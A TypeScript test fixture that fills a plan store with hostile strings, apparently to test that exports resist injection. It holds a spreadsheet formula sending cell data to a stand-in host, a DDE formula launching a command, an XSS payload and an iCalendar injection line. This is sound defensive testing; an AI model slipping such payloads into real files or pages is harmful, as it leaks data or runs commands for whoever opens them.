import type { Source } from "../src/model/table.ts";
import { openStore, type Store } from "../src/store/open.ts";
import { publishedOf } from "../src/store/published.ts";
import { writePlan } from "../src/store/write.ts";
import { sampleDeadline, sampleHead, samplePlan, sampleTarget, sampleTask } from "./sample.ts";

/** Words that a plan could say to do harm, or to break what is made of it. */
export const hostile = [
  '=HYPERLINK("http://x.example?"&A1,"xem")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "<script>alert(1)</script><img src=x onerror=alert(1)>",
  "a|b\r\nBEGIN:VEVENT\r\nUID:forged",
  'quote " comma , semicolon ; backslash \\ end',
  "_x0041_ \u0001 \u007F \uFFFD \u0085",
  "x".repeat(40_000),
  "đ".repeat(200),
  "😀".repeat(60),
];

/** A plan whose every text is hostile, and a second plan that is none of its business. */
export function hostileStore(): Store {
  const db = openStore(":memory:", { create: true });
  const tasks = hostile.map((text, index) =>
    sampleTask(`I/${index + 1}`, text, {
      lead: [text],
      deadline_text: text,
      note: text,
      deadlines: [sampleDeadline({ text, end: "2026-06-30", edtf: "../2026-06-30" })],
      targets: [sampleTarget({ text, unit: text, value: -5 })],
      extras: { [text]: text },
    }),
  );
  const head = sampleHead({ number: hostile[1] ?? null, issuer: hostile[2] ?? null, issued: "2026-01-05", year_from: 2026, year_to: 2026 });
  writePlan(db, samplePlan("hostile", { plan: head, tasks }), { name: "=1+1.txt" });
  const other = sampleHead({ number: "7/KH-UBND", issued: "2026-02-01", year_from: 2026, year_to: 2026 });
  writePlan(db, samplePlan("other", { plan: other, tasks: [sampleTask("1", "Trồng cây", { lead: ["Hội Nông dân"] })] }), {
    name: "other.txt",
  });
  return db;
}

/** The same as exports see it. */
export function hostileSource(): Source {
  return publishedOf(hostileStore());
}
